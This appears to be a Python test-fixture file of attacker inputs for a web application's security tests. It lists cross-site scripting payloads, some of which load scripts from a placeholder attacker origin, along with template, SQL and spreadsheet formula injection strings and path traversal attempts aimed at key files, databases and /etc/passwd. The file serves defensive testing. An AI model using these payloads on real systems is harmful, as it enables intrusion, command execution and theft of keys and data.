"""What an attacker types. `{o}` stands for an origin of his own, on which every request is noticed;
`pwned()` for his script. LIVE payloads run in a page that does not escape them: the test shows that
first, so that finding nothing afterwards means something.
"""

# --- cross-site scripting: text, attributes, script, addresses, drawings, style sheets ---
LIVE = [
    "<script>pwned()</script>",
    "<SCRIPT SRC={o}/s.js></SCRIPT>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</option></select><img src=x onerror=pwned()>",
    "--><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src={o}/i.png>",
    "<svg onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><set attributeName=x onbegin=pwned() />",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<object data={o}/o></object>",
    "<embed src={o}/e>",
    "<link rel=stylesheet href={o}/c.css>",
    "<style>@import '{o}/c.css';</style>",
    "<p style=\"background:url({o}/b.png)\">x</p>",
    "<video><source onerror=pwned()></video>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
    "<x-pwned></x-pwned>",
    "\"><x-pwned></x-pwned>",
    "'><x-pwned></x-pwned>",
    "\" type=image src=x onerror=pwned() x=\"",
    "' type=image src=x onerror=pwned() x='",
    "\"><script>pwned()</script>",
    "'><img src=x onerror=pwned()>",
    "';pwned();//",
    "\";pwned();//",
    "</script><script>pwned()</script>",
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "data:text/html,<script>pwned()</script>",
    "url({o}/u.png)",
    "x');background:url({o}/v.png);('",
]

# --- what is dangerous elsewhere than in a page, or only after something took it apart ---
OTHER = [
    "{{CSRF}}{{#SECTION}}{{>BODY}}{{%AUTOESCAPE context=\"HTML\"}}",
    "[[Sign in]]",
    "${7*7}#{7*7}<%= 7*7 %>{{7*7}}",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "＜script＞pwned()＜/script＞",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "<scr\u200bipt>pwned()</scr\u200bipt>",
    "\u202e<tpircs>\u202c",
    "' OR '1'='1",
    "1; DROP TABLE ops; --",
    "' UNION SELECT value FROM rows --",
    "\" OR name MATCH '*' --",
    "%' ESCAPE '\\",
    "../../../../etc/passwd",
    "..\\..\\county.key",
    "/dev/null\x7e",
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(\"{o}/h\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "x%0d%0aSet-Cookie: pwned=1",
    "😀" * 20,
    "%n%n%n%s%s%s{0}{1}{2}",
]

ALL = LIVE + OTHER

# Statements that a search or a key might be pasted into.
SQL = ["'", "''", "' OR 1=1 --", "\" OR \"\"=\"", "%", "_", "*", "\" OR *", "NEAR(a b)", "a AND",
       "1' UNION SELECT key, value FROM rows --", "'; DROP TABLE ops; --", "\\", "（", "a\" OR \"b"]

PATHS = ["/static/../county.key", "/static/%2e%2e/%2e%2e/county.key", "/static/..%2f..%2fcounty.key",
         "/static/....//county.key", "/static/%252e%252e/county.key", "/static//etc/passwd",
         "/static/console.css%00.key", "/../county.db", "/..%5c..%5ccounty.key", "//etc/passwd",
         "/case/../../county.db", "/case/%2e%2e%2f%2e%2e%2fcounty.db", "/county.key", "/county.db",
         "/tls/authority.key", "/static/", "/static/templates/case.html", "/.git/config",
         "/static/%c0%ae%c0%ae/county.key"]

# Bytes that are no text, as they stand in a form or an address.
NO_TEXT = ["%ff%fe", "%c0%af", "%ed%a0%80", "%f5%80%80%80", "%00", "a%00b", "%08", "%1b[31m", "%7f"]


def typed(payload, origin):
    return payload.replace("{o}", origin)
